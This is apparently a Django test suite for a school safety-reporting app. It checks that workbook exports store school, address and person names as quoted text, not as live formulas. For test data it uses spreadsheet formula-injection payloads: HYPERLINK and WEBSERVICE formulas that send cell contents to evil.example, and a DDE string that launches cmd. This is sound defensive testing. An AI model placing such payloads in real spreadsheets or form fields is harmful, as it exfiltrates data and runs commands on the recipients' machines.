"""Exports hold values, never formulas: a name a school typed cannot run in the bureau's Excel.

Every export goes through safecampus/lib/xlsx.py (``put``, and ``to_bytes`` checks again);
each is opened again with openpyxl and every cell checked, and the import reads the text back.
"""

import ast
import datetime as dt
from io import BytesIO
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import time_machine
from django.test import SimpleTestCase
from django.urls import reverse
from openpyxl import load_workbook

from safecampus.lib import xlsx
from safecampus.orgs import services as org_services
from safecampus.orgs.imports import (
    PEOPLE_COLUMNS,
    UNIT_COLUMNS,
    ImportResult,
    _read_people,
    _read_units,
    org_import,
    template_workbook,
)
from safecampus.orgs.models import Person, Unit
from safecampus.reports import services as report_services
from safecampus.test import BaseTestCase

TZ = ZoneInfo("Asia/Shanghai")
DAY = dt.date(2026, 11, 24)
MORNING = dt.datetime(2026, 11, 24, 9, 0, tzinfo=TZ)

# What a principal can call their school, its address and its people.
HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
HOSTILE_ADDRESS = "+cmd|' /C calc'!A0"
HOSTILE_PERSON = "@SUM(A1:A9)"
HOSTILE_TEACHER = "-2+3"
HOSTILE_GROUP = "＝1+1"  # full-width: WPS and Excel with a Chinese IME take it as =
HOSTILE_WHAT = "=1+1"
HOSTILE_MEASURES = '=WEBSERVICE("http://evil.example/"&A1)'


def cells(content: bytes) -> list[tuple[str, Any]]:
    """(sheet!coordinate, cell) of every non-empty cell of a workbook."""
    wb = load_workbook(BytesIO(content))
    return [
        (f"{ws.title}!{cell.coordinate}", cell)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    ]


class ExportSafetyMixin:
    def assert_no_formulas(self: Any, content: bytes, expected: list[str]) -> None:
        """No cell is a formula (or an error); each expected text is some cell's whole value
        (or part of it), as text that keeps its quote prefix when the cell is edited."""
        found = cells(content)
        formulas = [(at, c.value) for at, c in found if c.data_type not in ("s", "n", "d", "b")]
        self.assertEqual(formulas, [], "cells written as formulas")
        texts = [c for _, c in found if isinstance(c.value, str)]
        for text in expected:
            holding = [c for c in texts if text in c.value]
            self.assertTrue(holding, f"{text!r} is in no cell")
            for cell in holding:
                self.assertEqual(cell.data_type, "s")
                if cell.value.startswith(xlsx.FORMULA_TRIGGERS):
                    self.assertTrue(cell.quotePrefix, f"{cell.coordinate} {cell.value!r}")


class HostileNamesTest(ExportSafetyMixin, BaseTestCase):
    def setUp(self) -> None:
        super().setUp()
        org_services.unit_update(
            by=self.officer, unit=self.school_a, name=HOSTILE_UNIT, address=HOSTILE_ADDRESS
        )
        org_services.unit_update(by=self.officer, unit=self.group_1, name=HOSTILE_GROUP)
        org_services.person_update(by=self.officer, person=self.principal_a, name=HOSTILE_PERSON)
        org_services.person_update(by=self.officer, person=self.teacher_a, name=HOSTILE_TEACHER)
        for obj in (self.school_a, self.group_1, self.principal_a, self.teacher_a):
            obj.refresh_from_db()

    def export(self, person: Person) -> bytes:
        response = self.client_for(person).get(reverse("orgs:export"))
        self.assertEqual(response.status_code, 200)
        return response.content

    def test_org_export_holds_names_and_addresses_as_text(self):
        self.assert_no_formulas(
            self.export(self.officer),
            [HOSTILE_UNIT, HOSTILE_ADDRESS, HOSTILE_GROUP, HOSTILE_PERSON, HOSTILE_TEACHER],
        )

    def test_the_title_row_with_the_school_name_is_text(self):
        """A principal's export is titled with their school's name: the title cell starts
        with the hostile name."""
        content = self.export(self.principal_a)
        self.assert_no_formulas(content, [HOSTILE_UNIT, HOSTILE_PERSON])
        title = load_workbook(BytesIO(content))["单位"]["A1"]
        self.assertEqual(title.value, f"{HOSTILE_UNIT}单位名册")
        self.assertTrue(title.quotePrefix)

    def test_import_reads_back_exactly_the_names_exported(self):
        wb = xlsx.open_workbook(BytesIO(self.export(self.officer)))
        result = ImportResult()
        units = {r.code: r for r in _read_units(wb, result)}
        people = {r.mobile: r for r in _read_people(wb, result)}
        self.assertEqual(result.errors, [])
        self.assertEqual(units["SA"].name, HOSTILE_UNIT)
        self.assertEqual(units["SA"].address, HOSTILE_ADDRESS)
        self.assertEqual(units["G1"].name, HOSTILE_GROUP)
        self.assertEqual(people[self.principal_a.mobile].name, HOSTILE_PERSON)
        self.assertEqual(people[self.teacher_a.mobile].name, HOSTILE_TEACHER)

    def test_register_holds_units_people_and_items_as_text(self):
        with time_machine.travel(MORNING, tick=False):
            schedule = report_services.schedule_create(
                by=self.officer, root=self.bureau, name="冬季安全日报", starts_on=DAY
            )
            report_services.day_open(schedule=schedule, day=DAY)
            report_services.report_submit(
                by=self.principal_a,
                unit=self.school_a,
                day=DAY,
                zero=False,
                items=[{"what": HOSTILE_WHAT, "measures": HOSTILE_MEASURES}],
            )
            for person, unit in ((self.officer, self.bureau), (self.principal_a, self.school_a)):
                response = self.client_for(person).get(
                    reverse("reports:register") + f"?unit={unit.pk}&from={DAY}&to={DAY}"
                )
                self.assertEqual(response.status_code, 200)
                self.assert_no_formulas(
                    response.content,
                    [HOSTILE_UNIT, HOSTILE_PERSON, HOSTILE_WHAT, HOSTILE_MEASURES],
                )
        ws = load_workbook(BytesIO(response.content)).active
        self.assertTrue(ws["A1"].value.startswith(HOSTILE_UNIT))  # the title: the school's name
        self.assertEqual(ws["A1"].data_type, "s")


class HostileNamesThroughTheApiTest(ExportSafetyMixin, BaseTestCase):
    """The reported attack end to end: the principal renames the school through the API,
    the bureau downloads both exports."""

    def test_renamed_school_exports_as_text(self):
        token = org_services.token_issue(person=self.principal_a)
        headers = {"Authorization": f"Bearer {token}"}
        response = self.client.patch(
            f"/api/v1/units/{self.school_a.pk}",
            {"name": HOSTILE_UNIT, "address": HOSTILE_ADDRESS},
            content_type="application/json",
            headers=headers,
        )
        self.assertEqual(response.status_code, 200, response.content)
        response = self.client.patch(
            f"/api/v1/people/{self.teacher_a.pk}",
            {"name": HOSTILE_PERSON},
            content_type="application/json",
            headers=headers,
        )
        self.assertEqual(response.status_code, 200, response.content)
        bureau = self.client_for(self.officer)
        export = bureau.get(reverse("orgs:export"))
        self.assertEqual(export.status_code, 200)
        self.assert_no_formulas(export.content, [HOSTILE_UNIT, HOSTILE_ADDRESS, HOSTILE_PERSON])
        register = bureau.get(reverse("reports:register") + f"?unit={self.bureau.pk}")
        self.assertEqual(register.status_code, 200)
        self.assert_no_formulas(register.content, [])


class RoundTripThroughTheImportTest(BaseTestCase):
    def test_a_ledger_written_by_the_export_code_imports_the_same_names(self):
        """Export → import: new units and people written the export's way are created with
        exactly the text of the cells."""
        wb = xlsx.new_workbook()
        meta = [("填报单位", HOSTILE_UNIT)]
        xlsx.write_ledger(
            wb.create_sheet("单位"),
            title=HOSTILE_UNIT,
            meta=meta,
            columns=UNIT_COLUMNS,
            rows=[["S9", HOSTILE_UNIT, "学校", "G1", HOSTILE_ADDRESS, "-"]],
        )
        xlsx.write_ledger(
            wb.create_sheet("人员"),
            title=HOSTILE_PERSON,
            meta=meta,
            columns=PEOPLE_COLUMNS,
            rows=[[HOSTILE_PERSON, "13800009999", "S9", "教职工", ""]],
        )
        result = org_import(by=self.officer, file=BytesIO(xlsx.to_bytes(wb)))
        self.assertTrue(result.ok, result.errors)
        unit = Unit.objects.get(code="S9")
        self.assertEqual(
            (unit.name, unit.address, unit.phone), (HOSTILE_UNIT, HOSTILE_ADDRESS, "-")
        )
        self.assertEqual(Person.objects.get(mobile="13800009999").name, HOSTILE_PERSON)


class PutTest(SimpleTestCase):
    def roundtrip(self, value: Any) -> Any:
        wb = xlsx.new_workbook()
        ws = wb.create_sheet("t")
        xlsx.append_row(ws, [value])
        return load_workbook(BytesIO(xlsx.to_bytes(wb)))["t"]["A1"]

    def test_every_formula_trigger_is_written_as_text_with_the_quote_prefix(self):
        for text in ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1"]:
            with self.subTest(text=text):
                cell = self.roundtrip(text)
                self.assertEqual((cell.value, cell.data_type), (text, "s"))
                self.assertTrue(cell.quotePrefix)

    def test_error_codes_and_plain_text_are_text_without_the_prefix(self):
        for text in ["#N/A", "#REF!", "城关小学", "a=b"]:
            with self.subTest(text=text):
                cell = self.roundtrip(text)
                self.assertEqual((cell.value, cell.data_type), (text, "s"))
                self.assertFalse(cell.quotePrefix)

    def test_numbers_stay_numbers(self):
        cell = self.roundtrip(-3)
        self.assertEqual((cell.value, cell.data_type), (-3, "n"))

    def test_characters_a_workbook_cannot_hold_do_not_break_the_export(self):
        cell = self.roundtrip("a\x01b\x0bc")
        self.assertEqual(cell.value, "a\ufffdb\ufffdc")

    def test_a_cell_written_around_the_helpers_is_made_text_before_it_leaves(self):
        wb = xlsx.new_workbook()
        wb.create_sheet("t").append(["=1+1", "-1"])
        ws = load_workbook(BytesIO(xlsx.to_bytes(wb)))["t"]
        self.assertEqual([(c.value, c.data_type) for c in ws[1]], [("=1+1", "s"), ("-1", "s")])
        self.assertTrue(all(c.quotePrefix for c in ws[1]))

    def test_the_import_template_holds_no_formula(self):
        formulas = [at for at, c in cells(template_workbook()) if c.data_type != "s"]
        self.assertEqual(formulas, [])


class OneWayOutTest(SimpleTestCase):
    def test_no_module_but_lib_xlsx_writes_workbooks(self):
        """Every export goes through lib/xlsx.py: no other module imports openpyxl."""
        root = Path(__file__).resolve().parents[2]
        offenders = []
        for path in root.rglob("*.py"):
            if "tests" in path.parts or path == root / "lib" / "xlsx.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                names = (
                    [a.name for a in node.names]
                    if isinstance(node, ast.Import)
                    else [node.module or ""]
                    if isinstance(node, ast.ImportFrom)
                    else []
                )
                if any(n == "openpyxl" or n.startswith("openpyxl.") for n in names):
                    offenders.append(str(path.relative_to(root)))
        self.assertEqual(offenders, [])
